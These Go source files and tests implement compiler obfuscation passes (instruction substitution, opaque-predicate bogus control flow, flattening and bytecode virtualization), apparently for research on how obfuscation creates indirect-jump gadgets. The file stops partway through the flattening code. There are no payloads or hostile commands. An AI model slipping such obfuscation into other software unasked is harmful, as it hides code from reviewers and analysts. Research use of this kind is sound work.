	for progName, src := range testPrograms {
		plain := runPlain(t, src)
		for cfgName, passes := range configs {
			t.Run(progName+"/"+cfgName, func(t *testing.T) {
				obf, _ := runObf(t, src, passes...)
				if obf.Stdout != plain.Stdout {
					t.Errorf("stdout mismatch:\nplain: %q\nobf:   %q", plain.Stdout, obf.Stdout)
				}
				if obf.ExitCode != plain.ExitCode {
					t.Errorf("exit mismatch: plain %d, obf %d", plain.ExitCode, obf.ExitCode)
				}
			})
		}
	}
}

// TestObfuscationGrowsCode checks the size blowup the paper reports ("code
// size expands twice as large" for O-LLVM).
func TestObfuscationGrowsCode(t *testing.T) {
	src := testPrograms["sort"]
	plainBin, err := codegen.BuildProgram(src, nil, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	plainSize := plainBin.CodeSize()
	for _, cfg := range []struct {
		name   string
		passes []Pass
		factor float64
	}{
		{"llvm-obf", LLVMObf(), 1.5},
		{"tigress", Tigress(), 2.0},
	} {
		bin, err := codegen.BuildProgram(src, func(m *mir.Module) error {
			return Apply(m, 99, cfg.passes...)
		}, codegen.Options{})
		if err != nil {
			t.Fatal(err)
		}
		ratio := float64(bin.CodeSize()) / float64(plainSize)
		if ratio < cfg.factor {
			t.Errorf("%s: code growth %.2fx, want >= %.2fx", cfg.name, ratio, cfg.factor)
		}
		t.Logf("%s: %d -> %d bytes (%.2fx)", cfg.name, plainSize, bin.CodeSize(), ratio)
	}
}

// TestDeterministic confirms the same seed yields identical binaries.
func TestDeterministic(t *testing.T) {
	src := testPrograms["fib"]
	build := func() []byte {
		bin, err := codegen.BuildProgram(src, func(m *mir.Module) error {
			return Apply(m, 7, LLVMObf()...)
		}, codegen.Options{})
		if err != nil {
			t.Fatal(err)
		}
		return bin.Marshal()
	}
	a, b := build(), build()
	if string(a) != string(b) {
		t.Error("same seed produced different binaries")
	}
}

func TestByName(t *testing.T) {
	for _, name := range AllPassNames() {
		p, err := ByName(name)
		if err != nil || p.Name() != name {
			t.Errorf("ByName(%q) = %v, %v", name, p, err)
		}
	}
	if _, err := ByName("bogus"); err == nil {
		t.Error("ByName accepted unknown pass")
	}
}

func TestSubstituteRemovesPlainXor(t *testing.T) {
	// After substitution, no direct xor of two original operands remains in
	// blocks that had one (it is rewritten through and/or/not).
	src := `int main() { int a = 5; int b = 3; print_int(a ^ b); return 0; }`
	plain := runPlain(t, src)
	obf, _ := runObf(t, src, &Substitute{Rounds: 1})
	if obf.Stdout != plain.Stdout {
		t.Errorf("stdout: %q vs %q", obf.Stdout, plain.Stdout)
	}
}

// TestFlattenAddsJumpTable confirms flattening introduces dispatch tables.
func TestFlattenAddsJumpTable(t *testing.T) {
	bin, err := codegen.BuildProgram(testPrograms["sort"], func(m *mir.Module) error {
		if err := Apply(m, 5, &Flatten{}); err != nil {
			return err
		}
		found := false
		for _, f := range m.Funcs {
			for _, b := range f.Blocks {
				if b.Term.Kind == mir.TermJumpTable {
					found = true
				}
			}
		}
		if !found {
			t.Error("no jump table after flattening")
		}
		return nil
	}, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	_ = bin
}

// TestVirtualizeCreatesBytecode confirms per-function bytecode globals.
func TestVirtualizeCreatesBytecode(t *testing.T) {
	_, err := codegen.BuildProgram(testPrograms["fib"], func(m *mir.Module) error {
		if err := Apply(m, 5, &Virtualize{}); err != nil {
			return err
		}
		if !m.HasGlobal("__vm_code_fib") || !m.HasGlobal("__vm_code_main") {
			t.Error("missing VM bytecode globals")
		}
		return nil
	}, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
}
