package obfuscate

import (
	"encoding/binary"
	"fmt"
	"math/rand"

	"github.com/nofreelunch/gadget-planner/internal/mir"
)

// Virtualize translates every function body into bytecode for a custom
// stack-frame VM and replaces the body with a fetch-dispatch interpreter
// (paper Section II-A (7), Tigress's flagship transformation). The
// interpreter's dispatch is an indirect jump through a handler table, which
// is precisely the structure the paper identifies as a rich source of
// indirect-jump gadgets.
//
// VM encoding: each instruction is four little-endian 64-bit words
// [opcode, dst, a, b]. Virtual registers live in a frame-local array; the
// original function's locals are preserved (so pointers into them still
// work), addressed through an address table filled in at function entry.
type Virtualize struct{}

// Name implements Pass.
func (*Virtualize) Name() string { return "virt" }

// VM opcodes.
const (
	vmConst   = 0 // dst = imm(a)
	vmNeg     = 1
	vmNot     = 2
	vmCopy    = 3
	vmLoad1   = 4
	vmLoad8   = 5
	vmStore1  = 6 // [reg a] = reg b
	vmStore8  = 7
	vmAddrL   = 8 // dst = address of local #a
	vmAddrG   = 9 // dst = address of global table entry #a
	vmBr      = 10
	vmCondBr  = 11 // if reg dst != 0 goto a else b
	vmRetV    = 12
	vmRet0    = 13
	vmCall    = 14 // call site #a
	vmBinBase = 16 // vmBinBase+binop: dst = reg a <op> reg b
)

// Apply implements Pass.
func (*Virtualize) Apply(m *mir.Module, rng *rand.Rand) error {
	for i, f := range m.Funcs {
		nf, err := virtualizeFunc(m, f)
		if err != nil {
			return err
		}
		m.Funcs[i] = nf
	}
	return nil
}

// callSite describes one static call in the bytecode.
type callSite struct {
	name   string
	args   []int64 // vm register indices
	dst    int64
	hasDst bool
}

// vmInstr is one VM instruction before byte encoding.
type vmInstr struct {
	op, dst, a, b int64
	// brTargets marks a/b as block IDs to patch to pcs.
	aIsBlock, bIsBlock bool
}

func virtualizeFunc(m *mir.Module, f *mir.Func) (*mir.Func, error) {
	// --- Translate MIR to bytecode. ---
	var code []vmInstr
	var sites []callSite
	globalIdx := make(map[string]int64)
	var globalNames []string
	gidx := func(name string) int64 {
		if i, ok := globalIdx[name]; ok {
			return i
		}
		i := int64(len(globalNames))
		globalIdx[name] = i
		globalNames = append(globalNames, name)
		return i
	}
	nextVMReg := int64(f.NumVRegs)
	blockPC := make(map[int]int64)

	for _, blk := range f.Blocks {
		blockPC[blk.ID] = int64(len(code))
		for _, ins := range blk.Instrs {
			switch ins.Kind {
			case mir.InstConst:
				code = append(code, vmInstr{op: vmConst, dst: int64(ins.Dst), a: ins.Val})
			case mir.InstNeg:
				code = append(code, vmInstr{op: vmNeg, dst: int64(ins.Dst), a: int64(ins.A)})
			case mir.InstNot:
				code = append(code, vmInstr{op: vmNot, dst: int64(ins.Dst), a: int64(ins.A)})
			case mir.InstCopy:
				code = append(code, vmInstr{op: vmCopy, dst: int64(ins.Dst), a: int64(ins.A)})
			case mir.InstBin:
				code = append(code, vmInstr{op: vmBinBase + int64(ins.Op), dst: int64(ins.Dst), a: int64(ins.A), b: int64(ins.B)})
			case mir.InstLoad:
				op := int64(vmLoad8)
				if ins.Size == 1 {
					op = vmLoad1
				}
				code = append(code, vmInstr{op: op, dst: int64(ins.Dst), a: int64(ins.A)})
			case mir.InstStore:
				op := int64(vmStore8)
				if ins.Size == 1 {
					op = vmStore1
				}
				code = append(code, vmInstr{op: op, a: int64(ins.A), b: int64(ins.B)})
			case mir.InstAddrLocal:
				code = append(code, vmInstr{op: vmAddrL, dst: int64(ins.Dst), a: int64(ins.Local)})
			case mir.InstAddrGlobal:
				code = append(code, vmInstr{op: vmAddrG, dst: int64(ins.Dst), a: gidx(ins.Name)})
			case mir.InstCall:
				site := callSite{name: ins.Name, hasDst: ins.HasDst, dst: int64(ins.Dst)}
				for _, a := range ins.Args {
					site.args = append(site.args, int64(a))
				}
				code = append(code, vmInstr{op: vmCall, a: int64(len(sites))})
				sites = append(sites, site)
			default:
				return nil, fmt.Errorf("virtualize: unknown instruction kind %d", ins.Kind)
			}
		}
		switch blk.Term.Kind {
		case mir.TermRet:
			if blk.Term.HasVal {
				code = append(code, vmInstr{op: vmRetV, a: int64(blk.Term.Val)})
			} else {
				code = append(code, vmInstr{op: vmRet0})
			}
		case mir.TermBr:
			code = append(code, vmInstr{op: vmBr, a: int64(blk.Term.Target), aIsBlock: true})
		case mir.TermCondBr:
			code = append(code, vmInstr{
				op: vmCondBr, dst: int64(blk.Term.Cond),
				a: int64(blk.Term.Target), b: int64(blk.Term.Else),
				aIsBlock: true, bIsBlock: true,
			})
		case mir.TermJumpTable:
			// Lower to an equality chain over fresh VM registers.
			for i, tgt := range blk.Term.Targets {
				if i == len(blk.Term.Targets)-1 {
					code = append(code, vmInstr{op: vmBr, a: int64(tgt), aIsBlock: true})
					break
				}
				cReg := nextVMReg
				eqReg := nextVMReg + 1
				nextVMReg += 2
				code = append(code, vmInstr{op: vmConst, dst: cReg, a: int64(i)})
				code = append(code, vmInstr{op: vmBinBase + int64(mir.OpEQ), dst: eqReg, a: int64(blk.Term.Index), b: cReg})
				code = append(code, vmInstr{
					op: vmCondBr, dst: eqReg,
					a: int64(tgt), b: int64(len(code) + 1),
					aIsBlock: true, // b is the fall-through pc, already absolute
				})
			}
		}
	}

	// Patch block targets to pcs.
	for i := range code {
		if code[i].aIsBlock {
			code[i].a = blockPC[int(code[i].a)]
		}
		if code[i].bIsBlock {
			code[i].b = blockPC[int(code[i].b)]
		}
	}

	// Serialize bytecode into a global.
	buf := make([]byte, 0, len(code)*32)
	for _, ci := range code {
		for _, w := range []int64{ci.op, ci.dst, ci.a, ci.b} {
			buf = binary.LittleEndian.AppendUint64(buf, uint64(w))
		}
	}
	codeName := fmt.Sprintf("__vm_code_%s", f.Name)
	m.AddGlobal(mir.GlobalData{Name: codeName, Size: len(buf), Init: buf})

	// --- Build the interpreter. ---
	nf := &mir.Func{Name: f.Name, NumParam: f.NumParam, HasRet: f.HasRet}
	nf.Locals = append(nf.Locals, f.Locals...) // preserve original locals
	v := &vgen{
		m: m, f: nf, code: codeName,
		numLocals: len(f.Locals), globals: globalNames,
	}
	v.pcL = nf.AddLocal("__vm_pc", 8)
	v.regsL = nf.AddLocal("__vm_regs", int(nextVMReg+1)*8)
	v.ltabL = nf.AddLocal("__vm_ltab", v.numLocals*8+8)
	v.gtabL = nf.AddLocal("__vm_gtab", len(globalNames)*8+8)
	v.build(sites)
	return nf, nil
}

// vgen generates the interpreter function.
type vgen struct {
	m         *mir.Module
	f         *mir.Func
	code      string
	numLocals int
	globals   []string
	pcL       int
	regsL     int
	ltabL     int
	gtabL     int
}

func (v *vgen) c(b *mir.Block, val int64) mir.VReg {
	d := v.f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstConst, Dst: d, Val: val})
	return d
}

func (v *vgen) bin(b *mir.Block, op mir.BinOp, x, y mir.VReg) mir.VReg {
	d := v.f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstBin, Dst: d, Op: op, A: x, B: y})
	return d
}

func (v *vgen) addrLocal(b *mir.Block, idx int) mir.VReg {
	d := v.f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstAddrLocal, Dst: d, Local: idx})
	return d
}

func (v *vgen) load(b *mir.Block, addr mir.VReg, size uint8) mir.VReg {
	d := v.f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstLoad, Dst: d, A: addr, Size: size})
	return d
}

func (v *vgen) store(b *mir.Block, addr, val mir.VReg, size uint8) {
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstStore, A: addr, B: val, Size: size})
}

// loadPC returns the current pc value.
func (v *vgen) loadPC(b *mir.Block) mir.VReg {
	return v.load(b, v.addrLocal(b, v.pcL), 8)
}

// instrAddr returns the address of the current 32-byte VM instruction.
func (v *vgen) instrAddr(b *mir.Block, pc mir.VReg) mir.VReg {
	base := v.f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstAddrGlobal, Dst: base, Name: v.code})
	c32 := v.c(b, 32)
	off := v.bin(b, mir.OpMul, pc, c32)
	return v.bin(b, mir.OpAdd, base, off)
}

// word loads word i (0..3) of the instruction at addr.
func (v *vgen) word(b *mir.Block, addr mir.VReg, i int64) mir.VReg {
	off := v.c(b, i*8)
	return v.load(b, v.bin(b, mir.OpAdd, addr, off), 8)
}

// regAddr returns &vmregs[idx] for a dynamic register index.
func (v *vgen) regAddr(b *mir.Block, idx mir.VReg) mir.VReg {
	base := v.addrLocal(b, v.regsL)
	c8 := v.c(b, 8)
	off := v.bin(b, mir.OpMul, idx, c8)
	return v.bin(b, mir.OpAdd, base, off)
}

// regRead reads vmregs[idx].
func (v *vgen) regRead(b *mir.Block, idx mir.VReg) mir.VReg {
	return v.load(b, v.regAddr(b, idx), 8)
}

// regWrite writes vmregs[idx].
func (v *vgen) regWrite(b *mir.Block, idx, val mir.VReg) {
	v.store(b, v.regAddr(b, idx), val, 8)
}

// setPC stores a new pc.
func (v *vgen) setPC(b *mir.Block, pc mir.VReg) {
	v.store(b, v.addrLocal(b, v.pcL), pc, 8)
}

// bumpPC sets pc = pc+1 given the current value.
func (v *vgen) bumpPC(b *mir.Block, pc mir.VReg) {
	one := v.c(b, 1)
	v.setPC(b, v.bin(b, mir.OpAdd, pc, one))
}

// build assembles the interpreter CFG.
func (v *vgen) build(sites []callSite) {
	f := v.f
	entry := f.NewBlock()    // block 0
	dispatch := f.NewBlock() // block 1

	// Entry: fill the local-address and global-address tables, pc = 0.
	for i := 0; i < v.numLocals; i++ {
		la := v.addrLocal(entry, i)
		slot := v.addrLocal(entry, v.ltabL)
		off := v.c(entry, int64(i)*8)
		v.store(entry, v.bin(entry, mir.OpAdd, slot, off), la, 8)
	}
	for i, name := range v.globals {
		ga := f.NewVReg()
		entry.Instrs = append(entry.Instrs, mir.Instr{Kind: mir.InstAddrGlobal, Dst: ga, Name: name})
		slot := v.addrLocal(entry, v.gtabL)
		off := v.c(entry, int64(i)*8)
		v.store(entry, v.bin(entry, mir.OpAdd, slot, off), ga, 8)
	}
	zero := v.c(entry, 0)
	v.setPC(entry, zero)
	entry.Term = mir.Term{Kind: mir.TermBr, Target: dispatch.ID}

	// Handlers (created before dispatch's jump table references them).
	mkHandler := func(gen func(b *mir.Block, addr mir.VReg)) int {
		b := f.NewBlock()
		pc := v.loadPC(b)
		addr := v.instrAddr(b, pc)
		gen(b, addr)
		if b.Term.Kind == 0 {
			b.Term = mir.Term{Kind: mir.TermBr, Target: dispatch.ID}
		}
		return b.ID
	}

	handlers := make([]int, int(vmBinBase)+int(mir.OpULT)+1)

	handlers[vmConst] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		val := v.word(b, addr, 2)
		v.regWrite(b, dst, val)
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmNeg] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		a := v.regRead(b, v.word(b, addr, 2))
		d := f.NewVReg()
		b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstNeg, Dst: d, A: a})
		v.regWrite(b, dst, d)
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmNot] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		a := v.regRead(b, v.word(b, addr, 2))
		d := f.NewVReg()
		b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstNot, Dst: d, A: a})
		v.regWrite(b, dst, d)
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmCopy] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		a := v.regRead(b, v.word(b, addr, 2))
		v.regWrite(b, dst, a)
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmLoad1] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		ptr := v.regRead(b, v.word(b, addr, 2))
		v.regWrite(b, dst, v.load(b, ptr, 1))
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmLoad8] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		ptr := v.regRead(b, v.word(b, addr, 2))
		v.regWrite(b, dst, v.load(b, ptr, 8))
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmStore1] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		ptr := v.regRead(b, v.word(b, addr, 2))
		val := v.regRead(b, v.word(b, addr, 3))
		v.store(b, ptr, val, 1)
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmStore8] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		ptr := v.regRead(b, v.word(b, addr, 2))
		val := v.regRead(b, v.word(b, addr, 3))
		v.store(b, ptr, val, 8)
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmAddrL] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		idx := v.word(b, addr, 2)
		tab := v.addrLocal(b, v.ltabL)
		c8 := v.c(b, 8)
		slot := v.bin(b, mir.OpAdd, tab, v.bin(b, mir.OpMul, idx, c8))
		v.regWrite(b, dst, v.load(b, slot, 8))
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmAddrG] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		dst := v.word(b, addr, 1)
		idx := v.word(b, addr, 2)
		tab := v.addrLocal(b, v.gtabL)
		c8 := v.c(b, 8)
		slot := v.bin(b, mir.OpAdd, tab, v.bin(b, mir.OpMul, idx, c8))
		v.regWrite(b, dst, v.load(b, slot, 8))
		v.bumpPC(b, v.loadPC(b))
	})
	handlers[vmBr] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		v.setPC(b, v.word(b, addr, 2))
	})
	handlers[vmCondBr] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		cond := v.regRead(b, v.word(b, addr, 1))
		t := v.word(b, addr, 2)
		e := v.word(b, addr, 3)
		// pc = e + (cond != 0) * (t - e)
		z := v.c(b, 0)
		norm := v.bin(b, mir.OpNE, cond, z)
		diff := v.bin(b, mir.OpSub, t, e)
		v.setPC(b, v.bin(b, mir.OpAdd, e, v.bin(b, mir.OpMul, norm, diff)))
	})
	handlers[vmRetV] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		val := v.regRead(b, v.word(b, addr, 2))
		b.Term = mir.Term{Kind: mir.TermRet, Val: val, HasVal: true}
	})
	handlers[vmRet0] = mkHandler(func(b *mir.Block, addr mir.VReg) {
		b.Term = mir.Term{Kind: mir.TermRet}
	})

	// Per-callsite dispatch: the CALL handler jump-tables on the site index.
	siteBlocks := make([]int, 0, len(sites))
	for _, site := range sites {
		site := site
		siteBlocks = append(siteBlocks, mkHandler(func(b *mir.Block, addr mir.VReg) {
			var args []mir.VReg
			for _, aIdx := range site.args {
				idxV := v.c(b, aIdx)
				args = append(args, v.regRead(b, idxV))
			}
			call := mir.Instr{Kind: mir.InstCall, Name: site.name, Args: args, HasDst: site.hasDst}
			if site.hasDst {
				call.Dst = f.NewVReg()
			}
			b.Instrs = append(b.Instrs, call)
			if site.hasDst {
				dIdx := v.c(b, site.dst)
				v.regWrite(b, dIdx, call.Dst)
			}
			v.bumpPC(b, v.loadPC(b))
		}))
	}
	if len(siteBlocks) > 0 {
		handlers[vmCall] = mkHandler(func(b *mir.Block, addr mir.VReg) {
			idx := v.word(b, addr, 2)
			b.Term = mir.Term{Kind: mir.TermJumpTable, Index: idx, Targets: siteBlocks}
		})
	} else {
		handlers[vmCall] = handlers[vmRet0] // unreachable
	}

	// Binary-operation handlers.
	for op := mir.OpAdd; op <= mir.OpULT; op++ {
		op := op
		handlers[int(vmBinBase)+int(op)] = mkHandler(func(b *mir.Block, addr mir.VReg) {
			dst := v.word(b, addr, 1)
			a := v.regRead(b, v.word(b, addr, 2))
			bb := v.regRead(b, v.word(b, addr, 3))
			v.regWrite(b, dst, v.bin(b, op, a, bb))
			v.bumpPC(b, v.loadPC(b))
		})
	}

	// Dispatch: fetch opcode, jump through the handler table.
	pc := v.loadPC(dispatch)
	addr := v.instrAddr(dispatch, pc)
	op := v.load(dispatch, addr, 8)
	targets := make([]int, len(handlers))
	for i, h := range handlers {
		if h == 0 {
			h = handlers[vmRet0] // unused opcodes trap to return
		}
		targets[i] = h
	}
	dispatch.Term = mir.Term{Kind: mir.TermJumpTable, Index: op, Targets: targets}
}
