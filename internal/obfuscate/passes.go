package obfuscate

import (
	"math/rand"

	"github.com/nofreelunch/gadget-planner/internal/mir"
)

// Substitute replaces arithmetic instructions with equivalent but more
// complex sequences (paper Section II-A (1)), e.g.
//
//	a ^ b  =>  (~a & b) | (a & ~b)
//	a + b  =>  (a ^ b) + ((a & b) << 1)
//	a - b  =>  a + ~b + 1
type Substitute struct {
	// Rounds applies the rewrite this many times (each round can expand
	// the previous round's output).
	Rounds int
}

// Name implements Pass.
func (*Substitute) Name() string { return "sub" }

// Apply implements Pass.
func (s *Substitute) Apply(m *mir.Module, rng *rand.Rand) error {
	rounds := s.Rounds
	if rounds <= 0 {
		rounds = 1
	}
	for r := 0; r < rounds; r++ {
		for _, f := range m.Funcs {
			for _, b := range f.Blocks {
				var out []mir.Instr
				for _, ins := range b.Instrs {
					out = append(out, substituteInstr(f, ins, rng)...)
				}
				b.Instrs = out
			}
		}
	}
	return nil
}

// substituteInstr rewrites one instruction into an equivalent sequence.
func substituteInstr(f *mir.Func, ins mir.Instr, rng *rand.Rand) []mir.Instr {
	if ins.Kind != mir.InstBin {
		return []mir.Instr{ins}
	}
	bin := func(op mir.BinOp, a, b mir.VReg) (mir.Instr, mir.VReg) {
		d := f.NewVReg()
		return mir.Instr{Kind: mir.InstBin, Dst: d, Op: op, A: a, B: b}, d
	}
	not := func(a mir.VReg) (mir.Instr, mir.VReg) {
		d := f.NewVReg()
		return mir.Instr{Kind: mir.InstNot, Dst: d, A: a}, d
	}
	konst := func(v int64) (mir.Instr, mir.VReg) {
		d := f.NewVReg()
		return mir.Instr{Kind: mir.InstConst, Dst: d, Val: v}, d
	}
	end := func(seq []mir.Instr, op mir.BinOp, a, b mir.VReg) []mir.Instr {
		return append(seq, mir.Instr{Kind: mir.InstBin, Dst: ins.Dst, Op: op, A: a, B: b})
	}

	switch ins.Op {
	case mir.OpXor:
		// (~a & b) | (a & ~b) — the paper's Section II example.
		i1, na := not(ins.A)
		i2, nb := not(ins.B)
		i3, t1 := bin(mir.OpAnd, na, ins.B)
		i4, t2 := bin(mir.OpAnd, ins.A, nb)
		return end([]mir.Instr{i1, i2, i3, i4}, mir.OpOr, t1, t2)

	case mir.OpAdd:
		if rng.Intn(2) == 0 {
			// (a ^ b) + ((a & b) << 1)
			i1, x := bin(mir.OpXor, ins.A, ins.B)
			i2, a := bin(mir.OpAnd, ins.A, ins.B)
			i3, one := konst(1)
			i4, sh := bin(mir.OpShl, a, one)
			return end([]mir.Instr{i1, i2, i3, i4}, mir.OpAdd, x, sh)
		}
		// a - (~b + 1)  ==  a - (-b)
		i1, nb := not(ins.B)
		i2, one := konst(1)
		i3, negb := bin(mir.OpAdd, nb, one)
		return end([]mir.Instr{i1, i2, i3}, mir.OpSub, ins.A, negb)

	case mir.OpSub:
		// a + ~b + 1
		i1, nb := not(ins.B)
		i2, t := bin(mir.OpAdd, ins.A, nb)
		i3, one := konst(1)
		return end([]mir.Instr{i1, i2, i3}, mir.OpAdd, t, one)

	case mir.OpAnd:
		// (a | b) ^ (a ^ b)
		i1, o := bin(mir.OpOr, ins.A, ins.B)
		i2, x := bin(mir.OpXor, ins.A, ins.B)
		return end([]mir.Instr{i1, i2}, mir.OpXor, o, x)

	case mir.OpOr:
		// (a ^ b) + (a & b)... written via identities to avoid re-triggering:
		// (a & b) | (a ^ b) == a | b; use add form which is equivalent here.
		i1, x := bin(mir.OpXor, ins.A, ins.B)
		i2, a := bin(mir.OpAnd, ins.A, ins.B)
		return end([]mir.Instr{i1, i2}, mir.OpAdd, x, a)

	default:
		return []mir.Instr{ins}
	}
}

// BogusControlFlow prefixes blocks with an always-true opaque predicate
// (x*(x+1) is always even) branching either to the real code or to a junk
// block (paper Section II-A (2)).
type BogusControlFlow struct {
	// Prob is the per-block probability of insertion.
	Prob float64
}

// Name implements Pass.
func (*BogusControlFlow) Name() string { return "bcf" }

// Apply implements Pass.
func (p *BogusControlFlow) Apply(m *mir.Module, rng *rand.Rand) error {
	prob := p.Prob
	if prob == 0 {
		prob = 0.5
	}
	junk := junkGlobal(m)
	for _, f := range m.Funcs {
		// Snapshot: we append blocks while iterating.
		orig := append([]*mir.Block(nil), f.Blocks...)
		for _, b := range orig {
			if rng.Float64() >= prob {
				continue
			}
			rewriteWithOpaquePredicate(f, b, junk, rng)
		}
	}
	return nil
}

// rewriteWithOpaquePredicate moves b's body into a continuation block and
// replaces b with: opaque check -> (real | junk); junk also reaches the real
// code so the CFG looks meaningful.
func rewriteWithOpaquePredicate(f *mir.Func, b *mir.Block, junk string, rng *rand.Rand) {
	real := f.NewBlock()
	real.Instrs = b.Instrs
	real.Term = b.Term

	junkBlk := f.NewBlock()
	emitJunk(f, junkBlk, junk, rng)
	junkBlk.Term = mir.Term{Kind: mir.TermBr, Target: real.ID}

	// b: t = load junk; u = t*(t+1); v = u & 1; cond = (v == 0);
	// condbr cond -> real, junkBlk. The predicate is always true.
	b.Instrs = nil
	addr := f.NewVReg()
	t := f.NewVReg()
	one := f.NewVReg()
	t1 := f.NewVReg()
	u := f.NewVReg()
	mask := f.NewVReg()
	v := f.NewVReg()
	zero := f.NewVReg()
	cond := f.NewVReg()
	b.Instrs = append(b.Instrs,
		mir.Instr{Kind: mir.InstAddrGlobal, Dst: addr, Name: junk},
		mir.Instr{Kind: mir.InstLoad, Dst: t, A: addr, Size: 8},
		mir.Instr{Kind: mir.InstConst, Dst: one, Val: 1},
		mir.Instr{Kind: mir.InstBin, Dst: t1, Op: mir.OpAdd, A: t, B: one},
		mir.Instr{Kind: mir.InstBin, Dst: u, Op: mir.OpMul, A: t, B: t1},
		mir.Instr{Kind: mir.InstConst, Dst: mask, Val: 1},
		mir.Instr{Kind: mir.InstBin, Dst: v, Op: mir.OpAnd, A: u, B: mask},
		mir.Instr{Kind: mir.InstConst, Dst: zero, Val: 0},
		mir.Instr{Kind: mir.InstBin, Dst: cond, Op: mir.OpEQ, A: v, B: zero},
	)
	b.Term = mir.Term{Kind: mir.TermCondBr, Cond: cond, Target: real.ID, Else: junkBlk.ID}
}

// emitJunk fills a never-executed block with plausible garbage.
func emitJunk(f *mir.Func, b *mir.Block, junk string, rng *rand.Rand) {
	addr := f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstAddrGlobal, Dst: addr, Name: junk})
	cur := f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstLoad, Dst: cur, A: addr, Size: 8})
	n := 2 + rng.Intn(4)
	for i := 0; i < n; i++ {
		c := f.NewVReg()
		d := f.NewVReg()
		ops := []mir.BinOp{mir.OpAdd, mir.OpXor, mir.OpMul, mir.OpSub, mir.OpOr}
		b.Instrs = append(b.Instrs,
			mir.Instr{Kind: mir.InstConst, Dst: c, Val: rng.Int63()},
			mir.Instr{Kind: mir.InstBin, Dst: d, Op: ops[rng.Intn(len(ops))], A: cur, B: c},
		)
		cur = d
	}
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstStore, A: addr, B: cur, Size: 8})
}

// Flatten rewrites each function into the classic dispatch-loop shape
// (paper Section II-A (3)): a state variable selects the next original
// block through a jump table; every block ends by updating the state and
// returning to the dispatcher.
type Flatten struct{}

// Name implements Pass.
func (*Flatten) Name() string { return "fla" }

// Apply implements Pass.
func (*Flatten) Apply(m *mir.Module, rng *rand.Rand) error {
	for _, f := range m.Funcs {
		if len(f.Blocks) < 3 {
			continue
		}
		flattenFunc(f)
	}
	return nil
}

func flattenFunc(f *mir.Func) {
	orig := f.Blocks
	state := f.AddLocal("__state", 8)

	// New layout: [entry, dispatcher, originals...] — IDs shift by 2.
	shift := 2
	for _, b := range orig {
		b.ID += shift
		remapTargets(b, shift)
	}

	entry := &mir.Block{ID: 0}
	{
		a := f.NewVReg()
		z := f.NewVReg()
		entry.Instrs = append(entry.Instrs,
			mir.Instr{Kind: mir.InstAddrLocal, Dst: a, Local: state},
			mir.Instr{Kind: mir.InstConst, Dst: z, Val: 0},
			mir.Instr{Kind: mir.InstStore, A: a, B: z, Size: 8},
		)
		entry.Term = mir.Term{Kind: mir.TermBr, Target: 1}
	}
	dispatch := &mir.Block{ID: 1}
	{
		a := f.NewVReg()
		s := f.NewVReg()
		dispatch.Instrs = append(dispatch.Instrs,
			mir.Instr{Kind: mir.InstAddrLocal, Dst: a, Local: state},
			mir.Instr{Kind: mir.InstLoad, Dst: s, A: a, Size: 8},
		)
		targets := make([]int, len(orig))
		for i := range orig {
			targets[i] = i + shift
		}
		dispatch.Term = mir.Term{Kind: mir.TermJumpTable, Index: s, Targets: targets}
	}

	// Rewrite original terminators to set the state (as an index into the
	// dispatcher's table) and loop back.
	for _, b := range orig {
		switch b.Term.Kind {
		case mir.TermRet:
			// unchanged
		case mir.TermBr:
			setState(f, b, constV(f, b, int64(b.Term.Target-shift)))
			b.Term = mir.Term{Kind: mir.TermBr, Target: 1}
		case mir.TermCondBr:
			// state = else + (cond != 0) * (target - else).
			tIdx := int64(b.Term.Target - shift)
			eIdx := int64(b.Term.Else - shift)
			zero := f.NewVReg()
			norm := f.NewVReg()
			d1 := f.NewVReg()
			d2 := f.NewVReg()
			d3 := f.NewVReg()
			sum := f.NewVReg()
			b.Instrs = append(b.Instrs,
				mir.Instr{Kind: mir.InstConst, Dst: zero, Val: 0},
				mir.Instr{Kind: mir.InstBin, Dst: norm, Op: mir.OpNE, A: b.Term.Cond, B: zero},
				mir.Instr{Kind: mir.InstConst, Dst: d1, Val: tIdx - eIdx},
				mir.Instr{Kind: mir.InstBin, Dst: d2, Op: mir.OpMul, A: norm, B: d1},
				mir.Instr{Kind: mir.InstConst, Dst: d3, Val: eIdx},
				mir.Instr{Kind: mir.InstBin, Dst: sum, Op: mir.OpAdd, A: d2, B: d3},
			)
			setState(f, b, sum)
